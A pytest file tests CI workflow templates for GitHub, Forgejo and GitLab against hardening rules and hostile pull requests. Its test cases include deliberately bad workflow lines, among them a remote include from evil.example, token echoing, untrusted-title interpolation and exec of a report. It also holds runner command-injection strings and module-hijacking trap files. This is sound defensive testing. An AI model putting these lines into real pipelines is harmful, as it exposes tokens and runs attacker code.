"""The workflow templates: what they may never do (each rule tried on a bad workflow), and their scripts, run."""
import io
import json
import os
import re
import shutil
import subprocess
import sys
import threading
import zipfile
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, NamedTuple

import pytest
import yaml

PROJECT = Path(__file__).parents[2]
TEMPLATES = PROJECT / "infra/ci"
REVIEW, CHECK, COMMENT = (TEMPLATES / f"github/drumbeat-{name}.yml" for name in ("review", "check", "comment"))
FORGEJO_REVIEW, FORGEJO_CHECK = (TEMPLATES / f"forgejo/drumbeat-{name}.yml" for name in ("review", "check"))
GITLAB = TEMPLATES / "gitlab/.gitlab-ci.yml"
READS = {"contents": "read"}
PERMISSIONS = {REVIEW: READS, CHECK: READS, COMMENT: {"actions": "read", "pull-requests": "write"},
               FORGEJO_REVIEW: {"contents": "read", "pull-requests": "write"}, FORGEJO_CHECK: READS}
TRIGGERS = {REVIEW: {"pull_request"}, CHECK: {"push"}, COMMENT: {"workflow_run"}, FORGEJO_REVIEW: {"pull_request"},
            FORGEJO_CHECK: {"push"}}
MARKER = "<!-- drumbeat-review -->"


# --- what a workflow may never do -------------------------------------------------------------------------------------


def triggers(workflow: dict[Any, Any]) -> set[str]:
    """The events; YAML reads the word `on` as a yes."""
    told = workflow.get("on", workflow.get(True))
    return {told} if isinstance(told, str) else set(told)


def steps(workflow: dict[Any, Any]) -> list[dict[str, Any]]:
    return [step for job in workflow["jobs"].values() for step in job["steps"]]


def faults(text: str, permissions: dict[str, str], events: set[str]) -> list[str]:
    """What a workflow of GitHub's dialect does that it may never do; `permissions` and `events` are those it needs."""
    workflow = yaml.safe_load(text)
    found = []
    if triggers(workflow) != events or "pull_request_target" in text:
        found.append("trigger")
    if workflow.get("permissions") != permissions or any("permissions" in job for job in workflow["jobs"].values()):
        found.append("permissions")
    if re.search(r"\bsecrets\b", re.sub(r"#.*", "", text)):
        found.append("secrets")
    for step in steps(workflow):
        found += _faults_of_a_step(step, text, events)
    return found


def _faults_of_a_step(step: dict[str, Any], text: str, events: set[str]) -> list[str]:
    uses, run, given = step.get("uses", ""), step.get("run", ""), step.get("with", {})
    found = []
    if uses and not re.search(rf"uses: {re.escape(uses)} # v\d+\.\d+\.\d+\n", text):
        found.append("version")
    if uses and not re.fullmatch(r"[\w.-]+/[\w./-]+@[0-9a-f]{40}", uses):
        found.append("pinned")
    if "checkout" in uses and (given.get("persist-credentials") is not False or given.get("fetch-depth") != 0
                               or "path" not in given):
        found.append("checkout")
    if "${{" in run:
        found.append("interpolation")
    if "flows.cli" in run and not re.search(r'drumbeat/bin/python" -P -I -m flows\.cli', run):
        found.append("isolation")
    if events == {"workflow_run"} and (uses or re.search(
            r"\b(git|pip|npm|eval|exec|subprocess|os\.system|runpy|extractall|checkout)\b", run)):
        found.append("runs code")
    if "github.token" in str(step.get("env", "")) and "flows.cli" in run:
        found.append("token beside content")
    return found


@pytest.mark.parametrize("file", PERMISSIONS, ids=lambda file: f"{file.parent.name}/{file.name}")
def test_the_templates_keep_the_rules(file: Path) -> None:
    """Events, permissions, no secrets, pinned actions, no event's text in scripts, no code where a token can write."""
    assert faults(file.read_text(encoding="utf-8"), PERMISSIONS[file], TRIGGERS[file]) == []


@pytest.mark.parametrize(("file", "good", "bad", "fault"), [
    (REVIEW, "on: pull_request\n", "on: pull_request_target\n", "trigger"),
    (REVIEW, "on: pull_request\n", "on: [pull_request, push]\n", "trigger"),
    (REVIEW, "  contents: read\n", "  contents: write\n", "permissions"),
    (REVIEW, "  contents: read\n", "  contents: read\n  issues: write\n", "permissions"),
    (REVIEW, "    timeout-minutes: 15\n", "    permissions: {}\n", "permissions"),
    (REVIEW, "permissions:\n  contents: read\n", "", "permissions"),
    (REVIEW, 'DRUMBEAT_INSTALL: ""', "DRUMBEAT_INSTALL: ${{ secrets.INSTALL }}", "secrets"),
    (REVIEW, 'DRUMBEAT_INSTALL: ""', "DRUMBEAT_INSTALL: ${{ secrets['INSTALL'] }}", "secrets"),
    (REVIEW, "@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2", "@v6 # v6.0.2", "pinned"),
    (REVIEW, "@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2", "@de0fac2e4500 # v6.0.2", "pinned"),
    (REVIEW, " # v6.0.2", "", "version"),
    (REVIEW, "          persist-credentials: false\n", "", "checkout"),
    (REVIEW, "          fetch-depth: 0\n", "", "checkout"),
    (REVIEW, "          path: pull\n", "", "checkout"),
    (REVIEW, "          cd desk\n", "          echo ${{ github.event.pull_request.title }}\n", "interpolation"),
    (REVIEW, " -P -I -m flows.cli", " -m flows.cli", "isolation"),
    (COMMENT, "    steps:\n", f"    steps:\n      - uses: actions/checkout@{'a' * 40} # v6.0.2\n"
     "        with: {persist-credentials: false, fetch-depth: 0, path: pull}\n", "runs code"),
    (COMMENT, "          pull = the_pull_request()\n", "          exec(the_report())\n", "runs code"),
    (COMMENT, "archive.open(", "archive.extractall(", "runs code"),
    (COMMENT, "  pull-requests: write\n", "  pull-requests: write\n  contents: write\n", "permissions"),
    (FORGEJO_REVIEW, "      - name: Review\n", "      - name: Review\n        env: {T: '${{ github.token }}'}\n",
     "token beside content"),
])
def test_a_workflow_that_breaks_a_rule_is_caught(file: Path, good: str, bad: str, fault: str) -> None:
    """One line changed for the worse: the rule that it breaks is named, and no other."""
    text = file.read_text(encoding="utf-8")
    assert good in text

    assert set(faults(text.replace(good, bad, 1), PERMISSIONS[file], TRIGGERS[file])) == {fault}


def gitlab_faults(text: str) -> list[str]:
    """What the pipeline of GitLab does that it may never do."""
    told = yaml.safe_load(text)
    jobs = {name: job for name, job in told.items() if isinstance(job, dict) and "script" in job}
    found = []
    if set(jobs) != {"drumbeat-review", "drumbeat-comment", "drumbeat-check"} or "include" in told:
        found.append("jobs")
    if [rule["if"] for rule in jobs["drumbeat-review"]["rules"]] != ['$CI_PIPELINE_SOURCE == "merge_request_event"']:
        found.append("trigger")
    (rule,) = jobs["drumbeat-comment"]["rules"]
    if rule["if"].split(" && ") != [
            '$CI_PIPELINE_SOURCE == "merge_request_event"',
            "$CI_MERGE_REQUEST_SOURCE_PROJECT_ID == $CI_MERGE_REQUEST_PROJECT_ID",
            "$CI_PROJECT_ID == $CI_MERGE_REQUEST_PROJECT_ID", "$DRUMBEAT_COMMENT_TOKEN"]:
        found.append("forks")
    comment = "\n".join(jobs["drumbeat-comment"]["script"])
    if jobs["drumbeat-comment"].get("variables") != {"GIT_STRATEGY": "none"} or re.search(
            r"\b(git|pip|eval|exec|subprocess|os\.system|flows)\b", comment):
        found.append("runs code")
    for name in ("drumbeat-review", "drumbeat-check", ".drumbeat"):
        if "TOKEN" in json.dumps(told[name]):
            found.append("token beside content")
    scripts = "\n".join(line for job in (told[".drumbeat"], *jobs.values())
                        for line in (*job.get("before_script", ()), *job.get("script", ())))
    if re.search(r"CI_(COMMIT|MERGE_REQUEST)_\w*(TITLE|DESCRIPTION|MESSAGE|LABELS|BRANCH_NAME|REF_NAME)", scripts):
        found.append("interpolation")
    if len(re.findall(r'bin/python" -P -I -m flows\.cli', scripts)) != scripts.count("flows.cli"):
        found.append("isolation")
    return found


def test_the_gitlab_template_keeps_the_rules() -> None:
    """The comment's job is for branches of this project alone, has the token alone, and runs no code of theirs."""
    assert gitlab_faults(GITLAB.read_text(encoding="utf-8")) == []


@pytest.mark.parametrize(("good", "bad", "fault"), [
    ("    - if: $CI_PIPELINE_SOURCE == \"merge_request_event\"\n", "    - when: always\n      if: $CI\n", "trigger"),
    ("        && $CI_PROJECT_ID == $CI_MERGE_REQUEST_PROJECT_ID\n", "", "forks"),
    ("        && $CI_MERGE_REQUEST_SOURCE_PROJECT_ID == $CI_MERGE_REQUEST_PROJECT_ID\n", "", "forks"),
    ("GIT_STRATEGY: none ", "GIT_STRATEGY: clone ", "runs code"),
    ("      import json, os\n", "      import json, os, subprocess\n", "runs code"),
    ("      cd /tmp\n", "      cd /tmp; echo $DRUMBEAT_COMMENT_TOKEN\n", "token beside content"),
    ("      cd /tmp\n", "      cd /tmp; echo $CI_MERGE_REQUEST_TITLE\n", "interpolation"),
    (" -P -I -m flows.cli", " -m flows.cli", "isolation"),
    ("variables:\n", "include: [{remote: 'https://evil.example/ci.yml'}]\nvariables:\n", "jobs"),
])
def test_a_pipeline_that_breaks_a_rule_is_caught(good: str, bad: str, fault: str) -> None:
    """The same for GitLab: one change for the worse, one rule named."""
    text = GITLAB.read_text(encoding="utf-8")
    assert good in text

    assert set(gitlab_faults(text.replace(good, bad, 1))) == {fault}


# --- the scripts, run -------------------------------------------------------------------------------------------------

_WHO = ("-c", "user.name=Wren", "-c", "user.email=wren@millrace.example", "-c", "commit.gpgsign=false")
HOSTILE = """\
---
at: 2099-03-03 10:00
channels: [mastodon, x]
---
Ask @team: [x](https://evil.example) ![i](https://evil.example/i.png) https://evil.example

````
/merge
::stop-commands::x
##[add-mask]x
"""
TRAP = "import pathlib; pathlib.Path({!r}).touch()\n"


class Ran(NamedTuple):
    code: int
    out: str
    err: str


def run(script: str, cwd: Path, env: dict[str, str], *, python: bool = False) -> Ran:
    """A step's script as its runner starts it, with nothing of our surroundings but the path to its commands."""
    command = [sys.executable, "-I"] if python else ["bash", "--noprofile", "--norc", "-e"]
    file = cwd / ".step"
    file.write_text(script, encoding="utf-8")
    path = f"{Path(sys.executable).parent}:{os.environ['PATH']}"
    done = subprocess.run([*command, str(file)], cwd=cwd, env={"PATH": path, "HOME": str(cwd), **env}, text=True,
                          encoding="utf-8", capture_output=True, timeout=120, check=False)
    return Ran(done.returncode, done.stdout, done.stderr)


def script_of(file: Path, step: str) -> str:
    """The script of the step of that name."""
    every = steps(yaml.safe_load(file.read_text(encoding="utf-8")))
    return next(one["run"] for one in every if one.get("name") == step)


def gitlab_script(job: str, key: str = "script") -> str:
    return "\n".join(yaml.safe_load(GITLAB.read_text(encoding="utf-8"))[job][key]) + "\n"


def git(home: Path, *words: str) -> str:
    return subprocess.run(["git", *_WHO, *words], cwd=home, check=True, capture_output=True, text=True).stdout.strip()


class Desk(NamedTuple):
    """A machine that has fetched a pull request: `work/pull` is at its merge, Drumbeat is installed in `temp`.

    `sprung`: is there when something of the pull request was run.
    """

    temp: Path
    work: Path
    sprung: Path

    @property
    def pull(self) -> Path:
        return self.work / "pull"

    def github(self) -> dict[str, str]:
        return {"GITHUB_WORKSPACE": str(self.work), "RUNNER_TEMP": str(self.temp), "DRUMBEAT_CONTENT": "content",
                "GITHUB_STEP_SUMMARY": str(self.temp / "summary.md")}

    def gitlab(self) -> dict[str, str]:
        return {"CI_PROJECT_DIR": str(self.pull), "DRUMBEAT_VENV": str(self.temp / "drumbeat"),
                "DRUMBEAT_CONTENT": "content", "CI_MERGE_REQUEST_DIFF_BASE_SHA": git(self.pull, "rev-parse", "main")}


@pytest.fixture
def machine(tmp_path: Path) -> Desk:
    """A machine with an empty repository."""
    made = Desk(tmp_path / "temp", tmp_path / "work", tmp_path / "sprung")
    made.temp.mkdir()
    made.pull.mkdir(parents=True)
    (made.temp / "drumbeat").symlink_to(Path(sys.executable).parent.parent)
    git(made.pull, "init", "--quiet", "--initial-branch=main")
    return made


@pytest.fixture
def desk(machine: Desk) -> Desk:
    """The sample, and a branch merged into it that changes one post: a quiet pull request."""
    shutil.copytree(PROJECT / "content", machine.pull / "content")
    commit(machine, "The season")
    git(machine.pull, "checkout", "--quiet", "-b", "change")
    post = machine.pull / "content/campaigns/spring-mend/posts/launch.md"
    post.write_text(post.read_text(encoding="utf-8").replace("Six weeks", "Seven weeks"), encoding="utf-8")
    commit(machine, "Longer")
    merge(machine)
    return machine


@pytest.fixture
def sound(machine: Desk) -> Desk:
    """A folder of three files without a problem, whatever the year."""
    for path, text in {
        "strategy.yaml": "strategy: ours\nstart: 2026-01-01\ntimezone: UTC\n",
        "networks/channels.yaml": "channels:\n  - {id: x, network: x, handle: mill}\n",
        "posts/drill.md": "---\nat: 2099-03-03 10:00\nchannels: [x]\n---\nOurs is free to borrow on Tuesdays.\n",
    }.items():
        write(machine, path, text)
    commit(machine, "Sound")
    return machine


def write(desk: Desk, path: str, text: str) -> None:
    file = desk.pull / "content" / path
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(text, encoding="utf-8")


def commit(desk: Desk, words: str) -> None:
    git(desk.pull, "add", "--all")
    git(desk.pull, "commit", "--quiet", "--message", words)


def merge(desk: Desk) -> None:
    """HEAD is what GitHub tries: the branch merged into main, which is the first parent."""
    git(desk.pull, "checkout", "--quiet", "--detach", "main")
    git(desk.pull, "merge", "--quiet", "--no-ff", "--message", "Merge", "change")


def make_hostile(desk: Desk) -> None:
    """The branch adds a hostile post, settings, a cache, an archive, and modules named as ours and Python's."""
    git(desk.pull, "checkout", "--quiet", "change")
    for path, text in {
        "content/posts/`hostile` @team.md": HOSTILE,
        "drumbeat.toml": "nonsense = 1\n",
        ".env": "DRUMBEAT_ARCHIVE=dir:nowhere\n",
        ".drumbeat/archive/v1/kind": "rehearsal\n",
        "sitecustomize.py": TRAP.format(str(desk.sprung)), "yaml.py": TRAP.format(str(desk.sprung)),
        "flows/__init__.py": TRAP.format(str(desk.sprung)), "content/click.py": TRAP.format(str(desk.sprung)),
        "content/sitecustomize.py": TRAP.format(str(desk.sprung)),
    }.items():
        file = desk.pull / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text, encoding="utf-8")
    git(desk.pull, "add", "--all", "--force")
    git(desk.pull, "commit", "--quiet", "--message", "Hostile")
    merge(desk)


def is_safe(comment: str) -> bool:
    """It begins with the mark, holds the hostile words, and they stand in code."""
    lines = comment.split("\n")
    fences = [number for number, line in enumerate(lines) if re.match(r"`{3,}(text)?$", line)]
    inside = {number for start, end in zip(fences[::2], fences[1::2], strict=True) for number in range(start, end)}
    outside = [line for number, line in enumerate(lines) if number not in inside]
    return (lines[0] == MARKER and "@team" in comment and not any(line.strip().startswith("/") for line in lines)
            and not any("@team" in re.sub(r"(`+)[^`].*?[^`]?\1", "", line) for line in outside))


@pytest.mark.parametrize("comment", [
    f"{MARKER}\n\n@team\n", f"{MARKER}\n\n```text\n@team\n/merge\n```\n", "```text\n@team\n```\n",
    f"{MARKER}\n\n```text\n```\n@team\n"])
def test_an_unsafe_comment_is_seen(comment: str) -> None:
    """What the tests below call safe is not so of a mention outside of code, a command, or another beginning."""
    assert not is_safe(comment)
    assert is_safe(f"{MARKER}\n\n**`@team`**\n\n```text\n@team\n```\n")


def test_github_reviews_a_quiet_change(desk: Desk) -> None:
    """Against the first parent: the changed post is previewed, in the file for the comment and in the run's summary."""
    done = run(script_of(REVIEW, "Review"), desk.temp, desk.github())

    comment = (desk.temp / "comment.md").read_text(encoding="utf-8")
    assert done.err.endswith(" 0 new; 3 changes of the plan.\n"), done.out + done.err
    assert done.code == (0 if "**No errors.**" in comment else 1)    # the sample's own year will be over one day
    assert "· text changed: spring-mend/launch on mastodon" in comment
    assert "Seven weeks" in comment
    assert comment == (desk.temp / "summary.md").read_text(encoding="utf-8")


def test_github_reviews_a_hostile_change(desk: Desk) -> None:
    """It is red, its comment is safe, nothing that the branch brought was run or believed, nothing commands the runner.
    """
    make_hostile(desk)

    done = run(script_of(REVIEW, "Review"), desk.temp, desk.github())

    assert done.code == 1
    assert is_safe((desk.temp / "comment.md").read_text(encoding="utf-8"))
    assert not desk.sprung.exists()
    assert "nonsense is not known" not in done.out + done.err
    commands = [line for line in (done.out + done.err).splitlines() if line.lstrip().startswith("::")]
    begin = commands[0].removeprefix("::stop-commands::")
    assert (commands[0], commands[1]) == (f"::stop-commands::{begin}", f"::{begin}::")
    assert all(re.match(r"::(error|warning) file=content/", line) for line in commands[2:])
    assert len(commands) > 2


@pytest.mark.parametrize(("file", "step"), [(REVIEW, "Review"), (FORGEJO_REVIEW, "Review")])
def test_a_content_folder_that_is_a_link_is_refused(desk: Desk, file: Path, step: str) -> None:
    """A branch cannot have another folder of the machine read."""
    shutil.rmtree(desk.pull / "content")
    (desk.pull / "content").symlink_to(PROJECT / "content")

    done = run(script_of(file, step), desk.temp, {**desk.github(), "WORK": str(desk.work)})

    assert done.code == 1
    assert "is a link" in done.out
    assert not (desk.temp / "comment.md").exists()


def test_github_is_green_for_what_is_sound(sound: Desk) -> None:
    """A change without a problem ends with 0."""
    git(sound.pull, "checkout", "--quiet", "-b", "change")
    write(sound, "posts/chisel.md", "---\nat: 2099-03-04 10:00\nchannels: [x]\n---\nFlat back first.\n")
    commit(sound, "Another")
    merge(sound)

    done = run(script_of(REVIEW, "Review"), sound.temp, sound.github())

    assert done.code == 0, done.out + done.err
    assert "· new: posts/chisel on x" in (sound.temp / "comment.md").read_text(encoding="utf-8")


@pytest.mark.parametrize("forge", ["github", "forgejo", "gitlab"])
def test_what_was_merged_is_checked(sound: Desk, forge: str) -> None:
    """A push of sound content is green; of bad content red, with the place, on GitHub as an annotation."""
    script, env = {
        "github": (script_of(CHECK, "Check"), sound.github()),
        "forgejo": (script_of(FORGEJO_CHECK, "Check"), {"WORK": str(sound.work), "DRUMBEAT_CONTENT": "content"}),
        "gitlab": (gitlab_script("drumbeat-check"), sound.gitlab()),
    }[forge]
    if forge == "forgejo":
        (sound.work / "drumbeat").symlink_to(sound.temp / "drumbeat")
    good = run(script, sound.temp, env)
    for folder in (sound.temp, sound.work):
        shutil.rmtree(folder / "desk", ignore_errors=True)
    write(sound, "posts/bad.md", "---\nat: never\nchannels: [x]\n---\nBad.\n")
    commit(sound, "Bad")

    bad = run(script, sound.temp, env)

    assert good.code == 0, good.out + good.err
    assert bad.code == 1
    assert ("::error file=content/posts/bad.md,line=2," if forge == "github" else "content/posts/bad.md:2:") in bad.out


@pytest.mark.parametrize("script", [
    script_of(REVIEW, "Install Drumbeat"), script_of(CHECK, "Install Drumbeat"),
    script_of(FORGEJO_REVIEW, "Install Drumbeat"), gitlab_script(".drumbeat", "before_script")])
def test_an_install_that_nobody_set_is_refused(desk: Desk, script: str) -> None:
    """Without an address to install from the job ends with what to write and where."""
    done = run(script, desk.temp, {"DRUMBEAT_INSTALL": ""})

    assert done.code == 1
    assert "write into" in done.out
    assert "infra/ci/README.md" in done.out


def test_gitlab_reviews(desk: Desk) -> None:
    """The same scripts of GitLab: a quiet branch is told, a hostile one red and safe; the report is the artifact."""
    script = gitlab_script("drumbeat-review")
    good = run(script, desk.temp, desk.gitlab())
    quiet = (desk.pull / "drumbeat-review.md").read_text(encoding="utf-8")
    (desk.pull / "drumbeat-review.md").unlink()
    make_hostile(desk)

    bad = run(script, desk.temp, desk.gitlab())

    assert good.err.endswith(" 0 new; 3 changes of the plan.\n"), good.out + good.err
    assert "Seven weeks" in quiet
    assert bad.code == 1
    assert is_safe((desk.pull / "drumbeat-review.md").read_text(encoding="utf-8"))
    assert not desk.sprung.exists()


def test_gitlab_writes_the_report_over_no_link_of_the_branch(desk: Desk) -> None:
    """A branch that brings a link of the report's name has nothing else overwritten."""
    victim = desk.temp / "victim"
    victim.write_text("mine", encoding="utf-8")
    (desk.pull / "drumbeat-review.md").symlink_to(victim)

    done = run(gitlab_script("drumbeat-review"), desk.temp, desk.gitlab())

    assert MARKER in done.out
    assert victim.read_text(encoding="utf-8") == "mine"


def test_forgejo_fetches_and_reviews(desk: Desk) -> None:
    """The branch is fetched without a checkout action and held against where it began; the log holds the report."""
    make_hostile(desk)
    git(desk.pull, "update-ref", "refs/pull/7/head", "change")
    git(desk.pull, "checkout", "--quiet", "main")
    shutil.move(desk.pull, desk.temp / "club.git")
    env = {"WORK": str(desk.work), "TOKEN": "none", "NUMBER": "7", "GITHUB_SERVER_URL": desk.temp.as_uri(),
           "GITHUB_REPOSITORY": "club", "GITHUB_BASE_REF": "main", "DRUMBEAT_CONTENT": "content"}
    (desk.work / "drumbeat").symlink_to(desk.temp / "drumbeat")

    fetched = run(script_of(FORGEJO_REVIEW, "Fetch the pull request"), desk.temp, env)
    done = run(script_of(FORGEJO_REVIEW, "Review"), desk.temp, env)

    assert fetched.code == 0, fetched.err
    assert done.code == 1, done.err
    comment = (desk.work / "comment.md").read_text(encoding="utf-8")
    assert is_safe(comment)
    assert comment in done.out
    assert not desk.sprung.exists()
    assert "none" not in (desk.pull / ".git/config").read_text(encoding="utf-8")


# --- posting the comment ----------------------------------------------------------------------------------------------


class Forge:
    """As much of a forge's API as posting a comment needs. `answers`: by method and path without query; `asked`: what
    came, with the token it came with."""

    def __init__(self) -> None:
        self.answers: dict[tuple[str, str], Any] = {}
        self.asked: list[tuple[str, str, str | None, Any]] = []
        forge = self

        class Handler(BaseHTTPRequestHandler):
            def answer(self) -> None:
                body = self.rfile.read(int(self.headers["Content-Length"] or 0))
                path, _, query = self.path.partition("?")
                token = self.headers["Authorization"] or self.headers["PRIVATE-TOKEN"]
                forge.asked.append((self.command, self.path, token, json.loads(body) if body else None))
                told = forge.answers.get((self.command, path), 404 if self.command == "GET" else {})
                if isinstance(told, list) and "page=" in query and "page=1" not in query.split("&"):
                    told = []
                self.send_response(302 if isinstance(told, str) else told if isinstance(told, int) else 200)
                if isinstance(told, str):
                    self.send_header("Location", told)
                data = told if isinstance(told, bytes) else json.dumps(told).encode()
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            do_GET = do_POST = do_PATCH = do_PUT = answer

            def log_message(self, *_: Any) -> None:
                """Says nothing."""

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, args=(0.02,), daemon=True).start()

    def written(self) -> list[tuple[str, str, Any]]:
        """What was changed: method, path, body."""
        return [(method, path, body) for method, path, _, body in self.asked if method != "GET"]


@pytest.fixture
def forge() -> Iterator[Forge]:
    made = Forge()
    yield made
    made.server.shutdown()
    made.server.server_close()


REPORT = f"{MARKER}\n\n## Drumbeat review\n"
RUN = {"id": 5, "event": "pull_request", "head_sha": "a" * 40, "head_branch": "posts/new & more",
       "head_repository": {"id": 77, "owner": {"login": "stranger"}}}
PULL = {"number": 12, "changed_files": 1, "head": {"sha": "a" * 40, "repo": {"id": 77}}}


def packed(**files: str | bytes) -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in files.items():
            archive.writestr(name.replace("__", "/").replace("_", "."), text)
    return data.getvalue()


@pytest.fixture
def github(forge: Forge, tmp_path: Path) -> Callable[[], Ran]:
    """GitHub after a review of pull request 12, and what the commenting workflow makes of it."""
    event = tmp_path / "event.json"
    event.write_text(json.dumps({"workflow_run": RUN}), encoding="utf-8")
    forge.answers = {
        ("GET", "/repos/club/content/pulls"): [PULL],
        ("GET", "/repos/club/content/pulls/12"): PULL,
        ("GET", "/repos/club/content/pulls/12/files"): [{"filename": "content/posts/new.md"}],
        ("GET", "/repos/club/content/actions/runs/5/artifacts"): {"artifacts": [{"id": 9, "size_in_bytes": 300}]},
        ("GET", "/repos/club/content/actions/artifacts/9/zip"): f"{forge.url}/storage/9",
        ("GET", "/storage/9"): packed(comment_md=REPORT),
        ("GET", "/repos/club/content/issues/12/comments"): [],
    }
    env = {"GITHUB_API_URL": forge.url, "GITHUB_REPOSITORY": "club/content", "GITHUB_EVENT_PATH": str(event),
           "TOKEN": "t0ken"}
    return lambda: run(script_of(COMMENT, "Post or update the comment"), tmp_path, env, python=True)


def test_github_posts_the_comment(forge: Forge, github: Callable[[], Ran]) -> None:
    """The pull request is found by the run's own head; the report is posted; the token goes to the API alone."""
    done = github()

    assert done.code == 0, done.err
    assert forge.written() == [("POST", "/repos/club/content/issues/12/comments", {"body": REPORT})]
    assert {token for _, path, token, _ in forge.asked if path.startswith("/repos/")} == {"Bearer t0ken"}
    assert [token for _, path, token, _ in forge.asked if path.startswith("/storage/")] == [None]
    assert any("head=stranger%3Aposts%2Fnew%20%26%20more&" in path for _, path, _, _ in forge.asked)


def test_github_updates_its_own_comment_only(forge: Forge, github: Callable[[], Ran]) -> None:
    """The one that begins with the mark and was written by the workflow; nobody else's, whatever it begins with."""
    forge.answers["GET", "/repos/club/content/issues/12/comments"] = [
        {"id": 1, "user": {"login": "stranger"}, "body": REPORT},
        {"id": 2, "user": {"login": "github-actions[bot]"}, "body": "Something else"},
        {"id": 3, "user": {"login": "github-actions[bot]"}, "body": f"{REPORT}old"}]

    assert github().code == 0
    assert forge.written() == [("PATCH", "/repos/club/content/issues/comments/3", {"body": REPORT})]


@pytest.mark.parametrize("changed", [
    {("GET", "/repos/club/content/pulls/12/files"): [{"filename": ".github/workflows/drumbeat-review.yml"}]},
    {("GET", "/repos/club/content/pulls/12/files"): [{"filename": "a", "previous_filename": ".GitHub/x.yml"}]},
    {("GET", "/repos/club/content/pulls/12"): {**PULL, "changed_files": 3_001}},
])
def test_github_shows_no_report_that_its_author_may_have_written(
        forge: Forge, github: Callable[[], Ran], changed: dict[Any, Any]) -> None:
    """A branch that changes workflows, or too much to tell, gets a warning instead of what its run left."""
    forge.answers |= changed

    assert github().code == 0
    ((method, _, body),) = forge.written()
    assert method == "POST"
    assert body["body"].startswith(f"{MARKER}\n\nThis pull request changes workflows")


@pytest.mark.parametrize("changed", [
    {("GET", "/repos/club/content/pulls"): []},
    {("GET", "/repos/club/content/pulls"): [PULL, {**PULL, "number": 13}]},
    {("GET", "/repos/club/content/pulls"): [{**PULL, "head": {"sha": "b" * 40, "repo": {"id": 77}}}]},
    {("GET", "/repos/club/content/pulls"): [{**PULL, "head": {"sha": "a" * 40, "repo": {"id": 78}}}]},
    {("GET", "/repos/club/content/pulls"): [{**PULL, "head": {"sha": "a" * 40, "repo": None}}]},
    {("GET", "/repos/club/content/actions/runs/5/artifacts"): {"artifacts": []}},
    {("GET", "/repos/club/content/actions/runs/5/artifacts"): {"artifacts": [{"id": 9, "size_in_bytes": 300_000}]}},
    {("GET", "/storage/9"): packed(comment_md="Hello @everyone")},
    {("GET", "/storage/9"): packed(comment_md=f"{MARKER}\n" + "a" * 10_000_000)},
    {("GET", "/storage/9"): packed(comment_md=b"\xff\xfe")},
    {("GET", "/storage/9"): packed(number_txt="12")},
    {("GET", "/storage/9"): b"PK and no more"},
    {("GET", "/storage/9"): packed(comment_md=REPORT * 50).replace(b"\xb3", b"\x07", 1)},
], ids=["no pull request", "two", "another commit", "another fork", "fork gone", "no report", "large", "no mark",
        "unfolds", "no text", "other names", "no archive", "damaged"])
def test_github_posts_nothing_that_it_cannot_be_sure_of(
        forge: Forge, github: Callable[[], Ran], changed: dict[Any, Any]) -> None:
    """No single open pull request with this head, or no sound report: nothing is posted, and the log says why."""
    forge.answers |= changed

    done = github()

    assert (done.code, forge.written()) == (0, []), done.err
    assert done.out


def test_gitlab_posts_and_updates(forge: Forge, tmp_path: Path) -> None:
    """A note is made; the next time that very note is updated, and no other."""
    notes = "/projects/4/merge_requests/12/notes"
    forge.answers = {("GET", "/user"): {"id": 8}, ("GET", notes): []}
    env = {"CI_API_V4_URL": forge.url, "CI_MERGE_REQUEST_PROJECT_ID": "4", "CI_MERGE_REQUEST_IID": "12",
           "DRUMBEAT_COMMENT_TOKEN": "t0ken"}
    (tmp_path / "drumbeat-review.md").write_text(REPORT, encoding="utf-8")

    first = run(gitlab_script("drumbeat-comment"), tmp_path, env)
    forge.answers["GET", notes] = [{"id": 1, "author": {"id": 9}, "body": REPORT},
                                   {"id": 2, "author": {"id": 8}, "body": REPORT}]
    second = run(gitlab_script("drumbeat-comment"), tmp_path, env)
    (tmp_path / "drumbeat-review.md").write_text("Hello @all", encoding="utf-8")
    third = run(gitlab_script("drumbeat-comment"), tmp_path, env)

    assert (first.code, second.code, third.code) == (0, 0, 1), first.err + second.err
    assert forge.written() == [("POST", notes, {"body": REPORT}), ("PUT", f"{notes}/2", {"body": REPORT})]
    assert {token for _, _, token, _ in forge.asked} == {"t0ken"}


def test_forgejo_posts_updates_or_says_that_it_may_not(forge: Forge, tmp_path: Path) -> None:
    """A comment is made, then updated; a server whose token cannot write is told of, and the job stays as it was."""
    comments = "/repos/club/content/issues/12/comments"
    forge.answers = {("GET", comments): []}
    env = {"GITHUB_API_URL": forge.url, "GITHUB_REPOSITORY": "club/content", "NUMBER": "12", "TOKEN": "t0ken",
           "WORK": str(tmp_path)}
    (tmp_path / "comment.md").write_text(REPORT, encoding="utf-8")
    script = script_of(FORGEJO_REVIEW, "Post or update the comment")

    first = run(script, tmp_path, env)
    forge.answers["GET", comments] = [{"id": 1, "user": {"login": "stranger"}, "body": REPORT},
                                      {"id": 2, "user": {"login": "forgejo-actions"}, "body": REPORT}]
    second = run(script, tmp_path, env)
    written = forge.written()
    forge.answers["PATCH", "/repos/club/content/issues/comments/2"] = 403
    third = run(script, tmp_path, env)

    assert (first.code, second.code, third.code) == (0, 0, 0), first.err + second.err + third.err
    assert written == [("POST", comments, {"body": REPORT}),
                       ("PATCH", "/repos/club/content/issues/comments/2", {"body": REPORT})]
    assert "may not write comments" in third.out
